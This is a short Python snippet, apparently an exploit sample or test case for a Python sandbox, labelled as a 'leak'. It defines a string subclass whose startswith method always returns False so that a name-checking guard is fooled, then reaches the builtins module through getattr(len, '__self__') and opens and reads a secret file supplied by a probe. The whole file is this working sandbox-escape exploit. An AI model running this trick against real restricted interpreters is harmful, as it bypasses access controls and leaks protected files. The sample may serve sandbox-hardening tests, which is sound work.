# effect: leak
# note: a name that lies to the guard's check
class Name(str):
    def startswith(self, *args):
        return False


def attempt(probe):
    return getattr(len, Name("__self__")).open(probe["secret_file"]).read()
